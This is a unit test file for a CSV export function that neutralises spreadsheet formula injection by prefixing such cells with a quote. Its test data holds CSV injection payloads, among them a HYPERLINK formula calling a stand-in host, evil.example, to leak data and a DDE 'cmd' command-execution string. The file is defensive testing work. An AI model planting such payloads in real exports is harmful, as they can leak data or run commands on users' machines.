import { describe, expect, it } from 'vitest';
import { readCsv, toCsv } from './csv';
import { formulaCells } from './testing/formula-cells';

// OWASP's CSV injection: a cell a spreadsheet would take for a formula is written as text.
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak","click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-1+1',
  '\tmarket for electricity',
  '\rmarket for heat',
  '-5',
];

describe('toCsv', () => {
  it('writes text that starts like a formula with a leading quote, as text', () => {
    const csv = toCsv([['name'], ...HOSTILE.map((name) => [name])]);
    expect(formulaCells(csv)).toEqual([]);
    expect(csv).toBe(
      [
        'name',
        `"'=HYPERLINK(""http://evil.example/?leak"",""click"")"`,
        `'+cmd|' /C calc'!A0`,
        `'@SUM(1)`,
        `'-1+1`,
        `'\tmarket for electricity`,
        `"'\rmarket for heat"`,
        `'-5`,
        '',
      ].join('\n'),
    );
  });

  it('writes numbers as numbers, negative ones too, and harmless text as it is', () => {
    expect(toCsv([[-1.5, 0, 2e-7, 'electricity, high voltage', 'kg CO2-Eq']])).toBe(
      '-1.5,0,2e-7,"electricity, high voltage",kg CO2-Eq\n',
    );
  });

  it('reads back, with readCsv, what it was given', () => {
    const rows = [HOSTILE, [-1.5, "'quoted already", 'a "b"']];
    expect(readCsv(toCsv(rows)).map((row) => row.cells)).toEqual([
      HOSTILE,
      ['-1.5', "'quoted already", 'a "b"'],
    ]);
  });
});
